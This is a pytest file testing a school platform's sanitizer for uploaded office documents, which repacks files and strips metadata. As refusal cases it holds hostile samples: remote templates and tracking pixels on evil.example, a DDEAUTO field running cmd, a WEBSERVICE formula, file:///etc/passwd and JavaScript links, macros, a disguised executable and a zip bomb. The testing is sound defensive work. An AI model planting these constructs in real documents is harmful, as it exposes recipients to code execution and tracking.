"""Office documents are taken for hand-ins and lessons: checked, repacked, and refused where they run or reach out."""

import io
import zipfile

import pytest

from lyceum.rules.courses.hand_ins import HAND_IN_TYPES
from lyceum.rules.uploads.purposes import KINDS
from tests.content import office_documents as office
from tests.content.conftest import Depot
from tests.content.office_documents import (
    DOCX,
    ODT,
    PPTX,
    XLSX,
    docx,
    odt,
    parts_of,
    pptx,
    relation,
    relations,
    types,
    xlsx,
)
from tests.content.pictures import photograph

pytestmark = pytest.mark.usefixtures("in_process")
PHOTOGRAPH = photograph()


@pytest.mark.parametrize("purpose", ["document", "lesson"])
@pytest.mark.parametrize(
    ("body", "content_type", "words", "extension"),
    [
        (docx(), DOCX, "Photosynthesis makes sugar.", "docx"),
        (pptx(), PPTX, "Cells", "pptx"),
        (xlsx(), XLSX, "Height Weight", "xlsx"),
        (odt(), ODT, "Roots drink water.", "odt"),
    ],
)
def test_documents_are_kept_whole_and_read(
    depot: Depot, purpose: str, body: bytes, content_type: str, words: str, extension: str
) -> None:
    shown = depot.settled(body, content_type, purpose)
    assert shown["state"] == "ready", shown
    stored = depot.stored(shown["uploadId"])
    assert stored.facts == {"excerpt": words, "wordCount": len(words.split())}
    (variant,) = stored.variants
    assert (variant["name"], variant["content_type"]) == ("original", content_type)
    assert variant["key"].endswith(f".{extension}")
    again = depot.variant(shown["uploadId"], "original")
    assert parts_of(again) == parts_of(body)
    if content_type == ODT:
        with zipfile.ZipFile(io.BytesIO(again)) as archive:
            first = archive.infolist()[0]
            assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)


def test_a_chart_brings_its_workbook_and_pictures_stay(depot: Depot) -> None:
    kept = parts_kept(depot, docx(changes={"word/embeddings/Sheet1.xlsx": xlsx(), "word/media/image1.jpg": PHOTOGRAPH}))
    assert kept["word/media/image1.jpg"] == PHOTOGRAPH
    assert parts_of(kept["word/embeddings/Sheet1.xlsx"]) == parts_of(xlsx())


def parts_kept(depot: Depot, body: bytes, content_type: str = DOCX, **asked: object) -> dict[str, bytes]:
    shown = depot.settled(body, content_type, "document", **asked)
    assert shown["state"] == "ready", shown
    return parts_of(depot.variant(shown["uploadId"], "original"))


MACROS = types({"/word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"})
OBJECT = types({"/word/document.xml": f"{DOCX}.main+xml", "/word/a.bin": f"{office.BASE}oleObject"})


@pytest.mark.parametrize(
    ("body", "content_type", "says"),
    [
        (docx(changes={"[Content_Types].xml": MACROS}), DOCX, "macros"),
        (docx(changes={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), DOCX, "macros"),
        (docx(changes={"[Content_Types].xml": OBJECT}), DOCX, "embedded object"),
        (docx(changes={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), DOCX, "kind that is not taken"),
        (docx(changes={"word/embeddings/tool.exe": b"MZ\x90"}), DOCX, "kind that is not taken"),
        (docx(changes={"word/media/image1.png": b"MZ\x90" + bytes(100)}), DOCX, "is a program"),
        (docx(changes={"word/a.docx": docx(changes={"word/b.docx": docx()})}), DOCX, "inside documents"),
        (docx(changes={"word/a.xlsx": xlsx(changes={"xl/vbaProject.bin": b"x"})}), DOCX, "macros|not taken"),
        (docx(links=relation("attachedTemplate", "https://evil.example/t.dotm", is_external=True)), DOCX, "elsewhere"),
        (docx(links=relation("image", "https://evil.example/pixel.png", is_external=True)), DOCX, "elsewhere"),
        (docx(links=relation("oleObject", "file:///c:/a.exe", is_external=True)), DOCX, "elsewhere"),
        (docx(links=relation("hyperlink", "file:///c:/a.exe", is_external=True)), DOCX, "file, a share or a script"),
        (docx(links=relation("hyperlink", "%5C%5Cevil%5Cshare", is_external=True)), DOCX, "file, a share or a script"),
        (docx(links=relation("hyperlink", "JavaScript:alert(1)", is_external=True)), DOCX, "file, a share or a script"),
        (docx(links=relation("aFChunk", "chunk.html")), DOCX, "embedded object"),
        (docx("<w:p><w:r><w:instrText> DDEAU</w:instrText></w:r><w:r><w:instrText>TO c:cmd</w:instrText></w:r></w:p>"),
         DOCX, "field"),
        (docx('<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://evil.example/a" \'/></w:p>'), DOCX, "field"),
        (xlsx("_xlfn.WEBSERVICE(&quot;http://evil.example&quot;)"), XLSX, "formula"),
        (xlsx(changes={"xl/_rels/workbook.xml.rels": relations(relation("externalLink", "externalLinks/e1.xml"))}),
         XLSX, "embedded object"),
        (odt(changes={"Basic/Standard/Module1.xml": "<a/>"}), ODT, "macros"),
        (odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'), ODT, "scripts"),
        (odt('<draw:image xlink:href="https://evil.example/pixel.png"/>'), ODT, "elsewhere"),
        (odt('<draw:applet xlink:href="a.class"/>'), ODT, "embedded program"),
        (odt('<text:a xlink:href="file:///etc/passwd">x</text:a>'), ODT, "file, a share or a script"),
        (odt(changes={"content.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), ODT, "entities"),
        (docx(changes={"word/document.xml": "<broken>"}), DOCX, "broken at"),
        (odt(changes={"mimetype": f"{ODT}-master"}), ODT, "no office document"),
        (docx(), XLSX, "no office document"),
        (b"PK\x03\x04" + bytes(40), DOCX, "broken"),
        (b"%PDF-1.7\n", DOCX, "announced as"),
    ],
)  # fmt: skip
def test_what_runs_or_reaches_out_is_refused_by_name(depot: Depot, body: bytes, content_type: str, says: str) -> None:
    found = depot.refusal(body, content_type, "document")
    assert any(each in found for each in says.split("|")), found


def test_links_in_a_text_that_say_dde_or_lead_to_the_web_are_no_fields(depot: Depot) -> None:
    body = docx(
        '<w:p><w:r><w:instrText> HYPERLINK "https://example.org/DDE/LINK" </w:instrText></w:r>'
        "<w:r><w:t>LINK and DDE are words.</w:t></w:r></w:p>"
    )
    assert parts_kept(depot, body) == parts_of(body)
    assert parts_kept(depot, odt('<text:a xlink:href="https://example.org">x</text:a>'), ODT)


def test_the_template_that_a_document_was_begun_with_is_taken_out(depot: Depot) -> None:
    named = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="r"'
    template = relation("attachedTemplate", "file:///C:/Users/ada/Letter.dotm", is_external=True)
    settings = f'<w:settings {named}><w:zoom w:percent="100"/><w:attachedTemplate r:id="r1"/></w:settings>'
    body = docx(changes={"word/settings.xml": settings, "word/_rels/settings.xml.rels": relations(template)})
    kept = parts_kept(depot, body)
    assert kept["word/settings.xml"].decode() == settings.replace('<w:attachedTemplate r:id="r1"/>', "")
    assert b"Letter.dotm" not in kept["word/_rels/settings.xml.rels"]
    other = docx(changes={"word/_rels/settings.xml.rels": relations(template.replace("Template", "Template2"))})
    assert "elsewhere" in depot.refusal(other, DOCX, "document")


def test_a_bomb_is_refused(depot: Depot) -> None:
    assert "far more than it is" in depot.refusal(
        docx(changes={"word/media/image1.png": bytes(30 << 20)}), DOCX, "document"
    )


def test_who_wrote_it_goes_where_that_is_asked(depot: Depot) -> None:
    body = docx(changes={"word/media/image1.jpg": PHOTOGRAPH})
    assert b"Ada Obi" in parts_kept(depot, body)["docProps/core.xml"]
    quiet = parts_kept(depot, body, removeMetadata=True)
    assert b"Ada Obi" not in quiet["docProps/core.xml"]
    assert b"Exif" in PHOTOGRAPH
    assert b"Exif" not in quiet["word/media/image1.jpg"]
    assert b"Ada Obi" not in parts_kept(depot, odt(), ODT, removeMetadata=True)["meta.xml"]


def test_what_an_assignment_may_ask_for_is_what_a_student_can_send(depot: Depot) -> None:
    def is_taken(content_type: str) -> bool:
        student = depot.client.as_(f"ada {content_type}", "student")
        asked = {"fileName": "work", "contentType": content_type, "sizeBytes": 10}
        return 201 in [
            student.post("/api/uploads", {**asked, "purpose": purpose}).status
            for purpose in ("attachment", "document", "recording")
        ]

    assert {content_type for content_type in KINDS if is_taken(content_type)} == HAND_IN_TYPES
